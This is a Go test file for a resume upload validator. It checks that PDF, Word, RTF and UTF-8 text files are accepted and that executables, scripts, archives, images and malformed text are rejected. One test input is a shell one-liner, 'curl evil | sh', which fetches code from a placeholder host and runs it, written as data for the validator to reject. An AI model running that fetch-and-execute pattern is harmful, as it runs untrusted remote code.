package resume

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

const supportedSuffix = "; resumes must be PDF, DOC, DOCX, RTF or TXT"

// detectCase is one input to Detect and what must come of it: a kind, or an
// error matching wantErr whose message contains wantMsg.
type detectCase struct {
	name    string
	data    []byte
	want    Kind
	wantErr error
	wantMsg string
}

func checkDetect(t *testing.T, tc detectCase) {
	t.Helper()
	got, err := Detect(tc.data)
	if tc.wantErr == nil {
		if err != nil || got != tc.want {
			t.Fatalf("Detect = %v, %v; want %v, nil", got, err, tc.want)
		}
		return
	}
	if !errors.Is(err, tc.wantErr) {
		t.Fatalf("Detect = %v, %v; want error matching %v", got, err, tc.wantErr)
	}
	if got != KindUnknown {
		t.Errorf("Detect returned kind %v with an error", got)
	}
	if !strings.Contains(err.Error(), tc.wantMsg) {
		t.Errorf("message %q does not mention %q", err.Error(), tc.wantMsg)
	}
	if errors.Is(err, ErrUnsupported) {
		if msg := err.Error(); !strings.HasPrefix(msg, "the file is ") || !strings.HasSuffix(msg, supportedSuffix) {
			t.Errorf("message %q is not a complete sentence for the uploader", msg)
		}
	}
}

func TestDetectFormats(t *testing.T) {
	pdf := GeneratePDF("Zoë Šimek", []string{"Senior Engineer"})
	binaryJunk := bytes.Repeat([]byte{0x01, 0x02}, 600)
	zipWithPDF := buildZip(t, zipEntry{"cv.pdf", "%PDF-1.4\n" + strings.Repeat("x", 100)})

	tests := []detectCase{
		{name: "generated PDF", data: pdf, want: KindPDF},
		{name: "PDF after a few leading bytes", data: append([]byte("\r\n\x00junk\n"), pdf...), want: KindPDF},
		{name: "PDF 2.0 header", data: []byte("%PDF-2.0\n%%EOF\n"), want: KindPDF},
		{name: "PDF header too far in", data: append(binaryJunk, pdf...), wantErr: ErrUnsupported, wantMsg: "control characters"},
		{name: "PDF marker without a version is text", data: []byte("%PDF-draft of my resume"), want: KindTXT},
		{name: "DOC", data: buildDOC(t), want: KindDOC},
		{name: "DOCX", data: buildDOCX(t), want: KindDOCX},
		{name: "RTF", data: []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Helvetica;}}\f0 Zo\'eb \u352?imek\par}`), want: KindRTF},
		{name: "UTF-8 text", data: []byte("Zoë Šimek\nSenior Engineer\n"), want: KindTXT},
		{name: "UTF-8 text with BOM", data: []byte("\xEF\xBB\xBFZoë Šimek\r\n\tSenior Engineer\f"), want: KindTXT},
		{name: "text starting with MZ", data: []byte("MZ Consulting, 2019-2024\n"), want: KindTXT},
		{name: "text of exactly MaxSize", data: bytes.Repeat([]byte("a"), MaxSize), want: KindTXT},

		{name: "empty", data: nil, wantErr: ErrEmpty, wantMsg: "empty"},
		{name: "BOM only", data: []byte("\xEF\xBB\xBF"), wantErr: ErrEmpty, wantMsg: "no text"},
		{name: "whitespace only", data: []byte(" \r\n\t\f \u00a0"), wantErr: ErrEmpty, wantMsg: "no text"},
		{name: "one byte over MaxSize", data: bytes.Repeat([]byte("a"), MaxSize+1), wantErr: ErrTooLarge, wantMsg: "10 MiB"},

		{name: "Latin-1 text", data: []byte("Zo\xEB \xA9 2024\n"), wantErr: ErrUnsupported, wantMsg: "not UTF-8"},
		{name: "UTF-16LE text", data: []byte("\xFF\xFEZ\x00o\x00"), wantErr: ErrUnsupported, wantMsg: "UTF-16"},
		{name: "UTF-16BE text", data: []byte("\xFE\xFF\x00Z\x00o"), wantErr: ErrUnsupported, wantMsg: "UTF-16"},
		{name: "text with NUL", data: []byte("Zoe\x00Simek"), wantErr: ErrUnsupported, wantMsg: "binary file"},
		{name: "text with escape sequence", data: []byte("Zoe \x1b[31mSimek"), wantErr: ErrUnsupported, wantMsg: "control characters"},
		{name: "text with DEL", data: []byte("Zoe\x7fSimek"), wantErr: ErrUnsupported, wantMsg: "control characters"},
		{name: "text with C1 control", data: []byte("Zoe\u0085Simek"), wantErr: ErrUnsupported, wantMsg: "control characters"},

		{name: "PE executable named cv.pdf", data: buildPE(), wantErr: ErrUnsupported, wantMsg: "a Windows executable"},
		{name: "DOS executable without PE header", data: []byte("MZ\x90\x00\x03\x00\x00\x00"), wantErr: ErrUnsupported, wantMsg: "DOS or Windows executable"},
		{name: "PE with PDF marker inside", data: append(buildPE(), "%PDF-1.4"...), wantErr: ErrUnsupported, wantMsg: "Windows executable"},
		{name: "ELF", data: buildELF(), wantErr: ErrUnsupported, wantMsg: "ELF executable"},
		{name: "Mach-O 64-bit", data: []byte{0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1}, wantErr: ErrUnsupported, wantMsg: "Mach-O"},
		{name: "Mach-O universal", data: []byte{0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2}, wantErr: ErrUnsupported, wantMsg: "Mach-O universal"},
		{name: "shell script", data: []byte("#!/bin/sh\ncurl evil | sh\n"), wantErr: ErrUnsupported, wantMsg: "script"},
		{name: "script behind a BOM", data: []byte("\xEF\xBB\xBF#!/usr/bin/env python3\n"), wantErr: ErrUnsupported, wantMsg: "script"},

		{name: "plain zip", data: buildZip(t, zipEntry{"photo.jpg", "\xFF\xD8\xFF"}), wantErr: ErrUnsupported, wantMsg: "zip archive, not a Word document"},
		{name: "zip disguised as PDF", data: zipWithPDF, wantErr: ErrUnsupported, wantMsg: "zip archive"},
		{name: "empty zip", data: []byte("PK\x05\x06" + strings.Repeat("\x00", 18)), wantErr: ErrUnsupported, wantMsg: "empty zip archive"},
		{name: "PNG", data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), wantErr: ErrUnsupported, wantMsg: "PNG image"},
		{name: "JPEG", data: []byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'}, wantErr: ErrUnsupported, wantMsg: "JPEG image"},
		{name: "gzip", data: []byte{0x1F, 0x8B, 8, 0, 0, 0, 0, 0}, wantErr: ErrUnsupported, wantMsg: "gzip"},
		{name: "unknown binary", data: []byte{0x00, 0x01, 0x02, 0x03}, wantErr: ErrUnsupported, wantMsg: "unrecognised"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { checkDetect(t, tc) })
	}
}

func TestDetectExecutableMessageIsAPIDetail(t *testing.T) {
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"PE", buildPE(), "the file is a Windows executable; resumes must be PDF, DOC, DOCX, RTF or TXT"},
		{"ELF", buildELF(), "the file is an ELF executable (Linux or Unix program); resumes must be PDF, DOC, DOCX, RTF or TXT"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Detect(tc.data)
			if err == nil || err.Error() != tc.want {
				t.Fatalf("error = %v; want %q", err, tc.want)
			}
			if errors.Is(err, ErrEmpty) || errors.Is(err, ErrTooLarge) {
				t.Errorf("%v matches the wrong sentinel", err)
			}
		})
	}
}

func TestHasPDFHeader(t *testing.T) {
	tests := []struct {
		name string
		data string
		want bool
	}{
		{"at start", "%PDF-1.7\n", true},
		{"at last allowed offset", strings.Repeat(" ", pdfWindow-5) + "%PDF-1.4", true},
		{"one byte too far", strings.Repeat(" ", pdfWindow-4) + "%PDF-1.4", false},
		{"second marker has the version", "%PDF-x %PDF-1.3", true},
		{"truncated version", "%PDF-1", false},
		{"no dot", "%PDF-14", false},
		{"lower case", "%pdf-1.4", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := hasPDFHeader([]byte(tc.data)); got != tc.want {
				t.Errorf("hasPDFHeader(%q) = %v; want %v", tc.data, got, tc.want)
			}
		})
	}
}
